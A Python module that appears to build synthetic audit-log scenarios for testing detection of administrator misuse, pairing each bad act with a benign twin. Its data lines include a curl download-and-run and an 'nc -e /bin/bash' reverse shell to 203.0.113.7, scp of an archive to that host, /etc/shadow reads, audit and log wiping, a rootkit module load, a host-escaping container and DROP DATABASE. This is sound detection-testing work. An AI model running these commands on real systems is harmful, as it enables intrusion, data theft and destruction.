"""What administrators should not do, each beside its twin: what looks alike and is an ordinary day's work. And, where it is a
command, the same from a root shell, of which the kernel's audit alone tells."""

import datetime

from world import ADMINS, BASTION, BASTION_IP, HOSTS, SERVICES

BEHAVIOURS = {}  # name -> (act, twin, from a root shell or None)


def behaviour(name, twin, root=None):
    def add(act):
        BEHAVIOURS[name] = (act, twin, root)
        return act
    return add


def seconds(n):
    return datetime.timedelta(seconds=n)


def by_sudo(who, host, *commands, clock="11:00"):
    def act(world):
        when = world.at(clock)
        session = world.login(when, who, host, SERVICES[who][1] if who in SERVICES else BASTION_IP)
        for command in commands:
            when += seconds(20)
            world.sudo(when, who, host, command, session)
    return act


def by_root(who, host, *commands, clock="11:00", writes=()):
    """In a root shell that was opened hours ago."""
    def act(world):
        when = world.at(clock)
        for command in commands:
            when += seconds(20)
            world.run(when, who, host, command, 0)
        for path in writes:
            world.kernel_write(when + seconds(5), who, host, path)
    return act


def commands(name, bad, ordinary, who="lin", host="web-01", clock="11:00", writes=()):
    """A behaviour that is a command of `who`; `ordinary` is (who, host, commands, clock) or commands of the same."""
    other, other_host, good, other_clock = ordinary if isinstance(ordinary, tuple) else (who, host, ordinary, clock)
    twin = by_sudo(other, other_host, *good, clock=other_clock)
    BEHAVIOURS[name] = (by_sudo(who, host, *bad, clock=clock), twin, by_root(who, host, *bad, clock=clock, writes=writes))


# ---------------------------------------------------------------------------------------------------------------- commands

commands("sudoers-changed", ["/usr/bin/tee -a /etc/sudoers.d/lin"], ("ansible", "web-01", ["/usr/bin/tee /etc/sudoers.d/ops"], "02:11"), writes=["/etc/sudoers.d/lin"])
commands("pam-changed", ["/usr/bin/vim /etc/pam.d/sshd"], ["/usr/bin/vim /etc/nginx/conf.d/site.conf"], writes=["/etc/pam.d/sshd"])
commands("sshd-config-changed", ["/usr/bin/sed -i s/PermitRootLogin.no/PermitRootLogin.yes/ /etc/ssh/sshd_config"], ["/usr/bin/cat /etc/ssh/sshd_config"], writes=["/etc/ssh/sshd_config"])
commands("authorized-keys-changed", ["/usr/bin/tee -a /root/.ssh/authorized_keys"], ["/usr/bin/ls -la /root/.ssh"], writes=["/root/.ssh/authorized_keys"])
commands("audit-rules-removed", ["/usr/sbin/auditctl -D"], ["/usr/sbin/auditctl -l"])
commands("log-cleared", ["/usr/bin/truncate -s 0 /var/log/auth.log"], ["/usr/bin/tail -n 100 /var/log/auth.log"])
commands("history-cleared", ["/usr/bin/rm -f /root/.bash_history"], ["/usr/bin/cat /root/.bash_history"])
commands("firewall-flushed", ["/usr/sbin/iptables -F"], ["/usr/sbin/iptables -L -n"])
commands("clock-set-back", ["/usr/bin/date -s 2026-03-15T02:00:00"], ["/usr/bin/date"])
commands("cron-persistence", ["/usr/bin/tee /etc/cron.d/sync"], ("ansible", "web-02", ["/usr/bin/install -m 644 /tmp/ops /etc/cron.d/ops"], "02:12"), writes=["/etc/cron.d/sync"])
commands("unit-persistence", ["/usr/bin/tee /etc/systemd/system/netsync.service", "/usr/bin/systemctl enable --now netsync.service"], ["/usr/bin/systemctl status nginx"])
commands("database-dump", ["/usr/bin/mysqldump --all-databases"], ("backup", "db-01", ["/usr/bin/mysqldump --single-transaction shop"], "03:01"), who="ma", host="db-01", clock="11:00")
commands("sensitive-file-read", ["/usr/bin/cat /etc/shadow"], ["/usr/bin/cat /etc/hosts"])
commands("tool-fetched-and-run", ["/usr/bin/curl -o /tmp/x http://203.0.113.7/x", "/usr/bin/chmod +x /tmp/x", "/tmp/x"], ["/usr/bin/curl -I http://127.0.0.1/healthz"])
commands("setuid", ["/usr/bin/chmod u+s /usr/local/bin/helper"], ["/usr/bin/chmod 644 /var/www/index.html"])
commands("kernel-module", ["/usr/sbin/insmod /tmp/rk.ko"], ["/usr/sbin/lsmod"])
commands("mass-delete", ["/usr/bin/rm -rf /var/www /srv/backup"], ["/usr/bin/rm -f /tmp/site.tar.gz"])
commands("account-made-by-command", ["/usr/sbin/useradd -m -G sudo svc2"], ("zhou", "ldap-01", ["/usr/sbin/useradd -m u0316"], "14:01"))
commands("admin-group", ["/usr/sbin/usermod -aG sudo sun"], ["/usr/bin/id sun"])
commands("password-of-another", ["/usr/bin/passwd chen"], ("zhou", "ldap-01", ["/usr/bin/passwd u0313"], "14:01"))
commands("service-left-stopped", ["/usr/bin/systemctl stop rsyslog"], ["/usr/bin/systemctl reload nginx"])
commands("commands-never-used", ["/usr/bin/nmap -sS 10.0.0.0/16", "/usr/bin/nc -e /bin/bash 203.0.113.7 4444"], ["/usr/bin/ss -lntp", "/usr/bin/df -h"])
commands("container-privileged", ["/usr/bin/docker run --privileged -v /:/host alpine chroot /host"], ["/usr/bin/docker ps"])
commands("container-entered", ["/usr/bin/docker exec -it api sh"], ["/usr/bin/docker logs api"])
commands("archive-sent-out", ["/usr/bin/scp /tmp/site.tar.gz x@203.0.113.7:"], ["/usr/bin/scp /tmp/site.tar.gz web-02:/tmp"])
commands("log-store-deleted", ["/usr/bin/rm -rf /var/lib/yushi/blocks"], ["/usr/bin/du -sh /var/lib/yushi"])
# In a shell that was opened by day: no login tells of the hour.
BEHAVIOURS["root-shell-at-night"] = (by_root("lin", "web-01", "/usr/bin/ls /root", clock="03:10"), by_root("lin", "web-01", "/usr/bin/ls /root", clock="10:40"), None)
BEHAVIOURS["root-shell-by-sudo"] = (by_sudo("chen", "web-01", "/bin/bash"), by_sudo("lin", "web-01", "/bin/bash", clock="10:06"), None)


# A shell that is given a line hides what it runs from sudo.
BEHAVIOURS["root-shell-with-a-line"] = (by_sudo("chen", "web-01", "/bin/bash -c id; ls /root"), by_sudo("lin", "web-01", "/bin/sh -c echo BECOME-SUCCESS-abc ; /usr/bin/python3"), None)
commands("account-made-in-a-shell", ["/bin/sh -c useradd -m -G sudo svc3"], ["/usr/bin/systemctl status nginx"])

# ------------------------------------------------------------------------------------------------------------------ logins

def logins(*steps):
    """(clock, who, host, source[, method])"""
    def act(world):
        for clock, who, host, source, *method in steps:
            world.login(world.at(clock), who, host, source, *method)
    return act


BEHAVIOURS["root-at-night"] = (logins(("03:12", "root", "web-01", "10.20.1.12")), logins(("11:00", "lin", BASTION, "10.20.1.11")), None)
BEHAVIOURS["new-network"] = (logins(("11:00", "chen", BASTION, "198.51.100.77")), logins(("11:00", "chen", BASTION, "10.20.1.12")), None)
BEHAVIOURS["desk-of-another"] = (logins(("11:00", "chen", BASTION, "10.20.1.15")), logins(("11:00", "chen", BASTION, "10.20.1.99")), None)
BEHAVIOURS["round-the-bastion"] = (logins(("11:00", "lin", "web-01", "10.20.1.11")), logins(("11:00", "lin", "web-01", BASTION_IP)), None)
BEHAVIOURS["service-account-logs-in"] = (logins(("11:00", "backup", "web-02", "10.20.1.12")), logins(("03:00", "backup", "db-01", "10.0.1.51")), None)
BEHAVIOURS["two-places-at-once"] = (logins(("11:00", "lin", BASTION, "10.20.1.11"), ("11:04", "lin", BASTION, "198.51.100.9")),
                                    logins(("11:00", "lin", BASTION, "10.20.1.11"), ("11:04", "lin", BASTION, "10.20.1.11")), None)
BEHAVIOURS["new-host-fan-out"] = (logins(*[(f"11:{2 * i:02}", "wu", host, BASTION_IP) for i, host in enumerate(HOSTS) if host != BASTION]),
                                  logins(("11:00", "wu", "db-01", BASTION_IP), ("11:10", "wu", "db-01", BASTION_IP)), None)
BEHAVIOURS["new-account-of-the-first-day"] = (logins(("11:00", "svc9", "web-01", "198.51.100.20", "password"), ("11:05", "svc9", "app-01", "198.51.100.20", "password")),
                                              logins(("11:00", "sun", BASTION, "10.20.1.15")), None)


@behaviour("failures-then-success", twin=lambda world: (world.failed(world.at("11:00"), "he", BASTION, "10.20.1.16"), world.login(world.at("11:01"), "he", BASTION, "10.20.1.16", "password")))
def failures_then_success(world):
    for i in range(30):
        world.failed(world.at("11:00") + seconds(4 * i), "he", BASTION, "198.51.100.30")
    world.login(world.at("11:04"), "he", BASTION, "198.51.100.30", "password")


def few_typing_errors(world):
    for i, who in enumerate(["he", "sun", "chen"]):
        world.failed(world.at("11:00") + seconds(600 * i), who, BASTION, ADMINS[who][1])


@behaviour("spraying", twin=few_typing_errors)
def spraying(world):
    for i in range(60):
        world.failed(world.at("11:00") + seconds(40 * i), f"user{i}", BASTION, "198.51.100.31", known=False)


@behaviour("slow-guessing", twin=few_typing_errors)
def slow_guessing(world):
    for i in range(240):
        world.failed(world.at("00:00") + seconds(300 * i), "root", BASTION, "198.51.100.32")


@behaviour("many-addresses-on-one-account", twin=few_typing_errors)
def many_addresses(world):
    for i in range(120):
        world.failed(world.at("11:00") + seconds(20 * i), "chen", BASTION, f"198.51.{i}.33")


@behaviour("create-use-delete", twin=by_sudo("zhou", "ldap-01", "/usr/sbin/useradd -m u0316", clock="14:01"))
def create_use_delete(world):
    at = world.at("11:00")
    world.sudo(at, "lin", "web-01", "/usr/sbin/useradd -m tmpadm")
    world.say(at, "web-01", "useradd", "new user: name=tmpadm, UID=1099, GID=1099, home=/home/tmpadm, shell=/bin/bash, from=/dev/pts/0", 86, 4411)
    world.login(at + seconds(300), "tmpadm", "web-01", "10.20.1.11", "password")
    world.sudo(at + seconds(900), "lin", "web-01", "/usr/sbin/userdel -r tmpadm")
    world.say(at + seconds(900), "web-01", "userdel", "delete user 'tmpadm'", 86, 4419)


@behaviour("dormant-account-wakes", twin=logins(("11:00", "guo", BASTION, "10.20.1.17")))
def dormant(world):
    """Its last login was three months before."""
    world.login(world.at("10:00", -100), "yang", BASTION, "10.20.1.30")
    world.login(world.at("11:00"), "yang", BASTION, "10.20.1.30")


@behaviour("shared-account", twin=logins(("11:00", "lin", BASTION, "10.20.1.11"), ("13:00", "lin", BASTION, "10.20.1.11")))
def shared(world):
    for i, source in enumerate(["10.20.1.11", "10.20.1.12", "10.20.1.13", "10.20.1.14", "10.20.1.15"]):
        world.login(world.at("11:00") + seconds(120 * i), "lin", BASTION, source)


@behaviour("source-silent", twin=lambda world: None)
def source_silent(world):
    """web-02 says nothing from nine in the morning on, while the others go on all day."""
    world.lines = [(when, line) for when, line in world.lines if not (when > world.at("09:00") and " web-02 " in line)]


@behaviour("database-rights", twin=lambda world: world.mysql(world.at("15:00"), "wu", "db-01", "GRANT SELECT ON shop.orders TO 'report'@'10.0.1.%'"))
def database_rights(world):
    world.mysql(world.at("11:00"), "ma", "db-01", "GRANT ALL PRIVILEGES ON *.* TO 'ma'@'%' WITH GRANT OPTION")


@behaviour("database-dropped", twin=lambda world: world.mysql(world.at("15:00"), "wu", "db-01", "SELECT count(*) FROM orders"))
def database_dropped(world):
    world.mysql(world.at("11:00"), "ma", "db-01", "DROP DATABASE shop")


@behaviour("exec-into-a-pod", twin=lambda world: world.kubernetes(world.at("11:00"), "lin", "get", "pods", "prod", "web-7f"))
def exec_into_pod(world):
    world.kubernetes(world.at("11:00"), "lin", "create", "pods", "prod", "web-7f", "exec")


@behaviour("privileged-pod", twin=lambda world: world.kubernetes(world.at("11:00"), "lin", "list", "pods", "prod", ""))
def privileged_pod(world):
    body = {"kind": "Pod", "spec": {"containers": [{"name": "x", "image": "alpine", "securityContext": {"privileged": True}}], "hostPID": True}}
    world.kubernetes(world.at("11:00"), "lin", "create", "pods", "prod", "dbg", body=body)


@behaviour("root-by-su-that-pam-alone-tells", twin=lambda world: world.say(world.at("11:00"), "app-01", "su", "pam_unix(su-l:session): session opened for user www-data by sun(uid=1005)", 86, 4411))
def su_by_pam(world):
    world.say(world.at("11:00"), "app-01", "su", "pam_unix(su-l:session): session opened for user root by sun(uid=1005)", 86, 4411)


# ------------------------------------------------------------------------------------------------------- what is known of whom

@behaviour("a-table-never-taken", twin=lambda world: world.postgres(world.at("15:10"), "ma", "db-01", "public.report"))
def table_never_taken(world):
    """ma copies a report out twice a week."""
    world.postgres(world.at("15:10"), "ma", "db-01", "public.ledger")


@behaviour("machine-of-another-removed", twin=lambda world: world.vcenter(world.at("15:30"), "wu", "VmRemovedEvent", "DC-Test", "Removed test-77 on esx-02 from DC-Test"))
def machine_removed(world):
    world.vcenter(world.at("15:30"), "wu", "VmRemovedEvent", "DC-Gov", "Removed gov-db-01 on esx-04 from DC-Gov")


@behaviour("machine-cloned", twin=lambda world: world.vcenter(world.at("15:20"), "wu", "TaskEvent", "DC-Gov", "Task: Create virtual machine snapshot"))
def machine_cloned(world):
    world.vcenter(world.at("15:20"), "wu", "VmClonedEvent", "DC-Gov", "gov-db-01 cloned to copy-1 on esx-09 in DC-Gov")


@behaviour("machine-exported", twin=lambda world: world.vcenter(world.at("15:20"), "wu", "TaskEvent", "DC-Gov", "Task: Create virtual machine snapshot"))
def machine_exported(world):
    world.vcenter(world.at("15:20"), "wu", "TaskEvent", "DC-Gov", "Task: Export OVF template")


@behaviour("action-on-a-machine-of-openstack", twin=lambda world: world.nova(world.at("15:40"), "ma", "/servers/3edec1e4/action"))
def nova_action(world):
    world.nova(world.at("15:40"), "he", "/servers/3edec1e4/action")


@behaviour("fan-out-through-the-bastion", twin=lambda world: [world.through_the_bastion(world.at(f"16:{i:02}"), "sun", "app-01") for i in range(5)])
def fan_out_through_the_bastion(world):
    for i, host in enumerate(host for host in HOSTS if host != BASTION):
        world.through_the_bastion(world.at(f"16:{2 * i:02}"), "sun", host)
